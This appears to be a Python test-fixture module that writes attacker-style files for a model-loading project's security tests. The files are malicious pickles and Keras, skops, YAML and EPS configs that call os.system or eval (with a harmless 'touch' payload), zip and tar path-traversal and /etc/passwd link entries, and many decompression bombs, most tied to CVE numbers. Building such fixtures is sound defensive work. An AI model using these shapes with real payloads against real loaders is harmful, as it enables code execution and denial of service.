"""Files as attackers make them: each function writes one into the current folder.

Where a shape replays a known flaw of the field, its number stands there. Shapes are made anew by
the tests, so that no file of the project is one.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path

import numpy as np
import safetensors.numpy
from fuzz_bytes import HARMED, PICKLE

MODEL = "table.safetensors"
"""Write the good model from which bad ones are made; `folder` and `words` are there too."""
RUN = Path("kept/runs/narrow/seed-0")
_SHELL = f"touch {HARMED}"


def write(name: str, content: bytes | str) -> None:
    Path(name).write_bytes(content if isinstance(content, bytes) else content.encode())


def zipped(name: str, members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> None:
    with zipfile.ZipFile(name, "w", method) as archive:
        for member, content in members.items():
            archive.writestr(zipfile.ZipInfo(member), content, method, 1)


def npy(array: np.ndarray) -> bytes:
    out = io.BytesIO()
    np.save(out, array, allow_pickle=True)
    return out.getvalue()


def npy_of(header: str, body: bytes = b"") -> bytes:
    """Return the bytes of an array whose header is this text."""
    text = header.encode() + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + body


# 33. Pickles


def torch_archive(name: str = "m.pt") -> None:
    """As `torch.save` writes: with or without weights_only, once run (CVE-2025-32434)."""
    zipped(
        name, {"archive/data.pkl": PICKLE, "archive/version": b"3\n", "archive/data/0": b"\0" * 8}
    )


def torch_legacy_tar() -> None:
    """PyTorch's oldest form, a tar of pickles: the way around weights_only (CVE-2025-32434)."""
    with tarfile.open("m.pt", "w") as tar:
        for name in ("pickle", "storages", "tensors"):
            member = tarfile.TarInfo(name)
            member.size = len(PICKLE)
            tar.addfile(member, io.BytesIO(PICKLE))


def joblib_file() -> None:
    """Write a compressed pickle, as joblib reads it (CVE-2020-13092, CVE-2024-34997)."""
    write("m.joblib", zlib.compress(PICKLE))


def pickle_of_protocol_0(name: str) -> None:
    write(name, f"cposix\nsystem\n(V{_SHELL}\ntR.")


def object_array(name: str = "t.npz") -> None:
    """Objects in an array, which numpy.load once ran (CVE-2019-6446)."""
    harm = pickle.loads(pickle.dumps(_Later()))  # noqa: S301 (harmless until it is an array's)
    array = np.array([harm, harm, harm], object)
    zipped(
        name, {"a.npy": npy(array), "b.npy": npy(np.zeros(3)), "city.npy": npy(np.array(["R"] * 3))}
    )


class _Later:
    def __reduce__(self):
        return _Later, ()


def record_of_objects() -> None:
    header = "{'descr': [('a', '|O')], 'fortran_order': False, 'shape': (3,)}"
    zipped("t.npz", {"a.npy": npy_of(header, PICKLE)})


def code_in_an_array_header() -> None:
    """Put code where a careless reader of a header would evaluate it."""
    call = f"__import__('os').system('{_SHELL}')"
    zipped(
        "t.npz",
        {"a.npy": npy_of(f"{{'descr': '<f8', 'fortran_order': False, 'shape': ({call},)}}")},
    )


def arrow_extension_type() -> None:
    """Write a column whose type is a pickle in the schema's metadata (CVE-2023-47248)."""
    import pyarrow as pa
    from pyarrow import parquet

    metadata = {b"ARROW:extension:name": b"arrow.py_extension_type",
                b"ARROW:extension:metadata": PICKLE}  # fmt: skip
    fields = [pa.field("a", pa.float64(), metadata=metadata), pa.field("b", pa.float64()),
              pa.field("city", pa.string())]  # fmt: skip
    columns = [pa.array([1.0]), pa.array([1.0]), pa.array(["R"])]
    parquet.write_table(pa.Table.from_arrays(columns, schema=pa.schema(fields)), "t.parquet")


def skops_archive() -> None:
    """Write a zip whose schema names a function to call (CVE-2025-54412, CVE-2025-54413)."""
    schema = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode",
              "content": {"args": [_SHELL]}}  # fmt: skip
    zipped("m.skops", {"schema.json": json.dumps(schema).encode()})


def keras_archive() -> None:
    """Write a zip whose config names modules and code (CVE-2024-3660, CVE-2025-1550)."""
    layer = {"module": "builtins", "class_name": "eval", "registered_name": None,
             "config": {"function": f"__import__('os').system('{_SHELL}')"}}  # fmt: skip
    zipped("m.keras", {"config.json": json.dumps(layer).encode(), "metadata.json": b"{}"})


def yaml_study() -> None:
    """Keras once built a network from YAML by calling what it names (CVE-2021-37678)."""
    write("s.toml", f"title: !!python/object/apply:os.system ['{_SHELL}']\n")


def pickled_checkpoint() -> None:
    """Write checkpoints that are pickles, as those of most libraries are."""
    for name in ("checkpoint-a.safetensors", "checkpoint-b.safetensors"):
        (RUN / name).write_bytes(PICKLE)
    (RUN / "result.json").unlink()


def pickled_weights() -> None:
    (RUN / "weights.safetensors").write_bytes(PICKLE)


# 34. safetensors


def tensors(change, name: str = "m.safetensors") -> None:
    """Write the good model with its header changed; a text or bytes take its place."""
    raw = Path(MODEL).read_bytes()
    (size,) = struct.unpack("<Q", raw[:8])
    head = json.loads(raw[8 : 8 + size])
    changed = change(head)
    text = json.dumps(head) if changed is None else changed
    text = text.encode() if isinstance(text, str) else text
    write(name, struct.pack("<Q", len(text)) + text + raw[8 + size :])


def overlapping_tensors() -> None:
    def change(head):
        head["w2"]["data_offsets"] = head["w1"]["data_offsets"]
        head["w2"]["shape"] = head["w1"]["shape"]

    tensors(change)


def hole_between_tensors() -> None:
    """Room for another file between tensors: one that is two things at once."""

    def change(head):
        last = max(
            (v for k, v in head.items() if k != "__metadata__"), key=lambda v: v["data_offsets"]
        )
        last["data_offsets"] = [n + 64 for n in last["data_offsets"]]

    tensors(change)
    with Path("m.safetensors").open("ab") as file:
        file.write(b"\0" * 64)


def zip_behind_tensors() -> None:
    """Write a zip, which is read from its end, behind a whole model."""
    zipped("z.zip", {"data.pkl": PICKLE})
    write("m.safetensors", Path(MODEL).read_bytes() + Path("z.zip").read_bytes())


def header_of(length: int) -> None:
    write("m.safetensors", struct.pack("<Q", length) + b"{}" + b" " * 1000)


def shape_that_wraps() -> None:
    """Write a product that is small in 64 bits: 2^32 x 2^32 values would be none."""

    def change(head):
        head["w1"]["shape"] = [2**32, 2**32]
        head["w1"]["data_offsets"] = [0, 0]

    tensors(change)


def terabytes_of_holes() -> None:
    """Write a file that is 4 TB long, takes a block of the disk, and does not lie."""
    head = {"w1": {"dtype": "F32", "shape": [2**40], "data_offsets": [0, 2**42]}}
    text = json.dumps(head).encode()
    write("m.safetensors", struct.pack("<Q", len(text)) + text)
    with Path("m.safetensors").open("r+b") as file:
        file.truncate(8 + len(text) + 2**42)


def key_twice() -> None:
    """Give a key twice: most readers take the last, some the first; one is checked, one is used."""
    tensors(lambda head: '{"w1": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]}, '
            + json.dumps(head)[1:])  # fmt: skip


def extra_tensor() -> None:
    tensors(lambda head: head.update(w9={"dtype": "F32", "shape": [0], "data_offsets": [0, 0]}))


def missing_tensor() -> None:
    weights = safetensors.numpy.load_file(MODEL)
    weights.pop("b1")
    write("m.safetensors", safetensors.numpy.save(weights, _metadata()))


def _metadata() -> dict[str, str]:
    raw = Path(MODEL).read_bytes()
    return json.loads(raw[8 : 8 + struct.unpack("<Q", raw[:8])[0]])["__metadata__"]


def weights_that_are(value: float, kind: str = "f4") -> None:
    weights = safetensors.numpy.load_file(MODEL)
    weights["w1"] = np.full_like(weights["w1"], value).astype(kind)
    write("m.safetensors", safetensors.numpy.save(weights, _metadata()))


def deep_header() -> None:
    tensors(lambda _: '{"a":' * 100_000)


def many_tensors() -> None:
    """Write a header of 50,000 tensors of nothing: its parsing is the attack."""
    one = '"%d":{"dtype":"F32","shape":[0],"data_offsets":[0,0]}'
    tensors(lambda _: "{" + ",".join(one % k for k in range(50_000)) + "}")


def endless_number() -> None:
    """Digits without end, whose conversion takes their square in time (CVE-2020-10735)."""
    tensors(lambda _: '{"w1":{"dtype":"F32","shape":[' + "9" * 1_000_000 + "]}}")


# 35. Archives


def tar_of(*members: tuple[tarfile.TarInfo, bytes], more: bytes = b"") -> None:
    """Write ``a.tar.gz`` of these members, and of raw blocks that follow."""
    with tarfile.open("a.tar.gz", "w:gz", format=tarfile.GNU_FORMAT) as tar:
        for member, content in members:
            tar.addfile(member, io.BytesIO(content))
        if more:
            tar.fileobj.write(more)


def member(name: str, content: bytes = b"x", kind: bytes = tarfile.REGTYPE, to: str = ""):
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, to
    info.size = len(content) if kind == tarfile.REGTYPE else 0
    return info, content


def negative_size() -> bytes:
    """Return a member of -512 bytes: whoever skips it is back at it for ever (CVE-2025-8194)."""
    block = bytearray(tarfile.TarInfo("loop").tobuf(tarfile.GNU_FORMAT))
    block[124:136] = b"\xff" * 10 + b"\xfe\x00"
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def endless_pax_header() -> bytes:
    """Return a header of records without length: read for ever once (CVE-2019-20907)."""
    info = tarfile.TarInfo("pax")
    info.type, info.size = tarfile.XHDTYPE, 512
    return info.tobuf(tarfile.GNU_FORMAT) + b"0 x=1\n".ljust(512, b"\0")


# Zips: what a reader of .npz takes for columns

GOOD = {
    "a.npy": npy(np.arange(3.0)),
    "b.npy": npy(np.zeros(3)),
    "city.npy": npy(np.array(["R"] * 3)),
}


def overlapping_entries() -> None:
    """Entries that each hold the next one, header and all (CVE-2024-0450, Fifield's bomb)."""
    inner, places, names = npy(np.zeros(100_000)), [], [f"{k:04}.npy".encode() for k in range(500)]
    body = zlib.compress(inner, 9)[2:-4]
    parts = [body]
    for k, name in enumerate(names):
        length = sum(map(len, parts[: k + 1]))
        local = struct.pack("<5H3I2H", 20, 0, 8, 0, 0, 0, length, len(inner), len(name), 0)
        parts.insert(0, b"PK\x03\x04" + local + name)
        places.append((name, length))
    out = b"".join(parts)
    starts = [len(out) - sum(map(len, parts[len(names) - k - 1 :])) for k in range(len(names))]
    central = b"".join(
        b"PK\x01\x02" + struct.pack("<6H3I5H2I", 20, 20, 0, 8, 0, 0, 0, size, len(inner), len(name),
                                    0, 0, 0, 0, 0, at) + name
        for (name, size), at in zip(places, starts, strict=True)
    )  # fmt: skip
    end = struct.pack("<4H2IH", 0, 0, len(names), len(names), len(central), len(out), 0)
    write("t.npz", out + central + b"PK\x05\x06" + end)


def sizes_that_lie() -> None:
    """Write an entry of which the directory says that 240 MB are a kilobyte."""
    zipped("t.npz", {"a.npy": npy(np.zeros(30_000_000))}, zipfile.ZIP_DEFLATED)
    raw = bytearray(Path("t.npz").read_bytes())
    at = raw.rindex(b"PK\x01\x02")
    raw[at + 24 : at + 28] = struct.pack("<I", 1024)
    write("t.npz", bytes(raw))


def encrypted_entry() -> None:
    zipped("t.npz", GOOD)
    raw = bytearray(Path("t.npz").read_bytes())
    raw[raw.index(b"PK\x01\x02") + 8] |= 1
    raw[6] |= 1
    write("t.npz", bytes(raw))


def slip(name: str) -> None:
    """Add a member whose name leads out to a good archive (CVE-2018-1002200 and its kin)."""
    zipped("t.npz", {**GOOD, name: npy(np.zeros(3))})


def link_entry() -> None:
    """Write a member that Unix tools unpack as a link to /etc/passwd."""
    with zipfile.ZipFile("t.npz", "w") as archive:
        for name, content in GOOD.items():
            archive.writestr(name, content)
        info = zipfile.ZipInfo("link.npy")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")


def nested_zips() -> None:
    """Write a zip in a zip in a zip, as 42.zip; nothing here looks for zips in zips."""
    content = npy(np.zeros(1000))
    for _ in range(6):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for k in range(16):
                archive.writestr(f"{k}.npz", content)
        content = out.getvalue()
    write("t.npz", content)


# 36. Bombs


def png(name: str, chunks: list[tuple[bytes, bytes]]) -> None:
    parts = [
        struct.pack(">I", len(c)) + k + c + struct.pack(">I", zlib.crc32(k + c)) for k, c in chunks
    ]
    write(name, b"\x89PNG\r\n\x1a\n" + b"".join(parts))


def ihdr(width: int, height: int, depth: int = 8) -> tuple[bytes, bytes]:
    return b"IHDR", struct.pack(">2I5B", width, height, depth, 2, 0, 0, 0)


def png_of_many_pixels() -> None:
    png("p.png", [ihdr(60_000, 60_000), (b"IDAT", zlib.compress(bytes(1000))), (b"IEND", b"")])


def png_text_bomb() -> None:
    """Write a small picture with 500 MB of text in its comment (CVE-2014-9601 of Pillow)."""
    text = b"c\0\0" + zlib.compress(bytes(500_000_000), 1)
    png("p.png", [ihdr(8, 8), (b"zTXt", text), *_pixels()])


def png_profile_bomb() -> None:
    profile = b"c\0\0" + zlib.compress(bytes(500_000_000), 1)
    png("p.png", [ihdr(8, 8), (b"iCCP", profile), *_pixels()])


def _pixels() -> list[tuple[bytes, bytes]]:
    return [(b"IDAT", zlib.compress(b"".join(b"\0" + bytes(24) for _ in range(8)))), (b"IEND", b"")]


def gif_of_many_pixels() -> None:
    """Write a frame of 65,535 x 65,535 pixels in a few bytes (CVE-2022-45198)."""
    screen = struct.pack("<2H3B", 65_535, 65_535, 0, 0, 0)
    frame = b"," + struct.pack("<4HB", 0, 0, 65_535, 65_535, 0)
    write("p.gif", b"GIF89a" + screen + frame + b"\x02\x02\x4c\x01\x00;")


def webp_of_many_pixels() -> None:
    canvas = b"\0\0\0\0" + (16_383).to_bytes(3, "little") * 2
    body = b"WEBPVP8X" + struct.pack("<I", 10) + canvas
    write("p.webp", b"RIFF" + struct.pack("<I", len(body)) + body)


def bmp_of_many_pixels() -> None:
    head = struct.pack("<3I2H6I", 40, 60_000, 60_000, 1, 24, 0, 0, 0, 0, 0, 0)
    write("p.bmp", b"BM" + struct.pack("<3I", 54, 0, 54) + head)


def ppm_of_many_pixels() -> None:
    write("p.ppm", b"P6\n999999999 999999999\n255\n")


def tiff_as_png() -> None:
    """Write a format whose decoder had many flaws under another name (CVE-2020-10379)."""
    from PIL import Image

    Image.new("RGB", (8, 8)).save("p.tiff")
    Path("p.tiff").rename("p.png")


def eps_as_jpg() -> None:
    """PostScript is a program, which Pillow would hand to Ghostscript (CVE-2017-8291)."""
    write("p.jpg", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"
          f"(%pipe%{_SHELL}) (w) file\n%%EOF\n")  # fmt: skip


def array_of_terabytes() -> None:
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,)}"
    zipped("t.npz", {"a.npy": npy_of(header)})


def array_that_blows_up() -> None:
    zipped("t.npz", {"a.npy": npy(np.zeros(30_000_000))}, zipfile.ZIP_DEFLATED)


def parquet_of_one_value() -> None:
    """Thirty million rows of one value, in a few kilobytes: a run length is a bomb too."""
    import pyarrow as pa
    from pyarrow import parquet

    part, name = pa.array(np.zeros(1 << 20)), pa.array(np.zeros(1 << 20, np.int32))
    text = pa.DictionaryArray.from_arrays(name, pa.array(["R"]))
    columns = {"a": [part] * 32, "b": [part] * 32, "city": [text] * 32}
    table = pa.table({name: pa.chunked_array(parts) for name, parts in columns.items()})
    parquet.write_table(table, "t.parquet", row_group_size=1 << 27, compression="zstd")


def pipe(name: str) -> None:
    """Write a named pipe: whoever opens it waits for ever."""
    Path(name).unlink(missing_ok=True)
    os.mkfifo(name)


def endless(name: str) -> None:
    """Write a link to a device that gives zeros for ever."""
    Path(name).unlink(missing_ok=True)
    Path(name).symlink_to("/dev/zero")


def sparse(name: str) -> None:
    """Write a file of a terabyte that takes no room on the disk."""
    with Path(name).open("wb") as file:
        file.truncate(1 << 40)


# 37. Models that name code


def naming(path: str, value: object) -> None:
    """Write the good model, of which one setting names something else."""

    def change(head):
        own = json.loads(head["__metadata__"]["triptych"])
        *way, last = path.split(".")
        place = own
        for key in way:
            place = place[key]
        place[last] = value
        head["__metadata__"]["triptych"] = json.dumps(own)

    tensors(change)


# 38. ONNX


def onnx_with_data_at(location: str) -> None:
    """Write a graph whose weights are another file."""
    import onnx
    from onnx import TensorProto, helper

    tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[2])
    tensor.data_location = TensorProto.EXTERNAL
    tensor.external_data.add(key="location", value=location)
    node = helper.make_node("Identity", ["w"], ["y"])
    out = helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])
    graph = helper.make_graph([node], "g", [], [out], [tensor])
    write("m.onnx", helper.make_model(graph).SerializeToString())
    assert onnx.load_model("m.onnx", load_external_data=False).graph.initializer[0].external_data
